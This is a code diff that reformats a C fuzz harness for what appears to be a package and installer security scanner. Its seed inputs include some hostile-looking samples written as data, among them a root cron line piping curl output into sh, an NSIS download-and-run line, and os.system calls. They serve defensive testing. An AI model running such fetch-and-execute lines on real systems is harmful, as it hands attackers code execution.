@@ -28,7 +28,8 @@ static void on_fact(struct read_out *o, const struct fact *f)
 {
 	struct account *a = (struct account *)o;
 
-	FUZZ_CHECK(f->kind > FACT_NONE && f->kind < FACT_N && (f->flags & ~(uint32_t)FACT_FLAGS_ALL) == 0);
+	FUZZ_CHECK(f->kind > FACT_NONE && f->kind < FACT_N &&
+		(f->flags & ~(uint32_t)FACT_FLAGS_ALL) == 0);
 	FUZZ_CHECK(f->unit == FACT_NO_UNIT || f->unit < o->n_units);
 	FUZZ_CHECK(f->offset <= a->new_len && f->length <= a->new_len - f->offset);
 	a->digest = fast_hash(f->key.p ? f->key.p : "", f->key.len, a->digest + f->kind);
@@ -50,21 +51,39 @@ static const struct {
 	const struct reader *reader;
 	const char *path;
 } kinds[] = {
-	{&reader_package_json, "package/package.json"}, {&reader_lockfile, "package-lock.json"}, {&reader_lockfile, "yarn.lock"},
-	{&reader_lockfile, "pnpm-lock.yaml"}, {&reader_nsis_lines, "x.exe!/[install script].nsi"},
-	{&reader_manifest, "x.deb!/control.tar.xz!/control"}, {&reader_manifest, "x.deb!/control.tar.xz!/postinst"},
-	{&reader_manifest, "x-1.dist-info/METADATA"}, {&reader_manifest, "x.pth"}, {&reader_manifest, "binding.gyp"},
-	{&reader_trust, "ext/manifest.json"}, {&reader_trust, "app-update.yml"}, {&reader_trust, "index.html"},
-	{&reader_trust, "etc/cron.d/x"}, {&reader_trust, "a.entitlements"},
+	{&reader_package_json, "package/package.json"},
+	{&reader_lockfile, "package-lock.json"},
+	{&reader_lockfile, "yarn.lock"},
+	{&reader_lockfile, "pnpm-lock.yaml"},
+	{&reader_nsis_lines, "x.exe!/[install script].nsi"},
+	{&reader_manifest, "x.deb!/control.tar.xz!/control"},
+	{&reader_manifest, "x.deb!/control.tar.xz!/postinst"},
+	{&reader_manifest, "x-1.dist-info/METADATA"},
+	{&reader_manifest, "x.pth"},
+	{&reader_manifest, "binding.gyp"},
+	{&reader_trust, "ext/manifest.json"},
+	{&reader_trust, "app-update.yml"},
+	{&reader_trust, "index.html"},
+	{&reader_trust, "etc/cron.d/x"},
+	{&reader_trust, "a.entitlements"},
 };
 
-static uint64_t once(size_t kind, const uint8_t *old, size_t old_len, const uint8_t *new_, size_t new_len)
+static uint64_t once(
+	size_t kind, const uint8_t *old, size_t old_len, const uint8_t *new_, size_t new_len)
 {
 	struct arena arena;
-	struct budget budget = {.max_steps = 4 << 20, .max_bytes = 16 << 20, .max_members = 1000, .max_depth = 16};
+	struct budget budget = {
+		.max_steps = 4 << 20, .max_bytes = 16 << 20, .max_members = 1000, .max_depth = 16};
 	struct account a = {{on_unit, on_fact, on_cover, 0, 0}, new_len, 0, 0};
-	struct read_in in = {.path = str_of(kinds[kind].path), .old = cursor_of(old, old_len), .new_ = cursor_of(new_, new_len),
-		.has_old = old_len > 0, .format = FORMAT_TEXT, .old_format = FORMAT_TEXT, .arena = &arena, .budget = &budget, .out = &a.out};
+	struct read_in in = {.path = str_of(kinds[kind].path),
+		.old = cursor_of(old, old_len),
+		.new_ = cursor_of(new_, new_len),
+		.has_old = old_len > 0,
+		.format = FORMAT_TEXT,
+		.old_format = FORMAT_TEXT,
+		.arena = &arena,
+		.budget = &budget,
+		.out = &a.out};
 	enum status s;
 
 	arena_init(&arena, 0);
@@ -96,10 +115,16 @@ void fuzz_seeds(void (*run)(const void *bytes, size_t n))
 		"\"@s/a@^1\", b@npm:c@1:\n  version \"1\"\n  resolved \"https://r.example/@s/a/-/a-1.tgz#1\"\n  integrity sha512-A\n",
 		"packages:\n\n  /a@1(b@2):\n    resolution: {integrity: sha512-A, tarball: https://r.example/a}\n",
 		"Section \"a\"\n  Exec \"$\\\"$TEMP\\x.exe$\\\"\"\n  inetc::get \"http://a.example/x\" \"$TEMP\\x.exe\" ; x\nopcode 9 1\n",
-		"Package: a\nVersion: 1\nDepends: b (>= 1),\n c | d\n", "#!/bin/sh\n", "Name: a\nRequires-Dist: b>=1\n", "import os; os.system('x')\n",
-		"\"<!(node ./x.js)\"", "{\"manifest_version\":3,\"permissions\":[\"tabs\"],\"content_security_policy\":\"script-src 'self' *\"}",
-		"url: https://a.example\npublisherName: x\n", "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'self'\">",
-		"* * * * * root curl https://a.example | sh\n", "<plist><key>com.apple.security.get-task-allow</key><true/>sha256/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=-----BEGIN CERTIFICATE-----\nAA\n-----END CERTIFICATE-----",
+		"Package: a\nVersion: 1\nDepends: b (>= 1),\n c | d\n",
+		"#!/bin/sh\n",
+		"Name: a\nRequires-Dist: b>=1\n",
+		"import os; os.system('x')\n",
+		"\"<!(node ./x.js)\"",
+		"{\"manifest_version\":3,\"permissions\":[\"tabs\"],\"content_security_policy\":\"script-src 'self' *\"}",
+		"url: https://a.example\npublisherName: x\n",
+		"<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'self'\">",
+		"* * * * * root curl https://a.example | sh\n",
+		"<plist><key>com.apple.security.get-task-allow</key><true/>sha256/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=-----BEGIN CERTIFICATE-----\nAA\n-----END CERTIFICATE-----",
 	};
 	char room[1024];
 
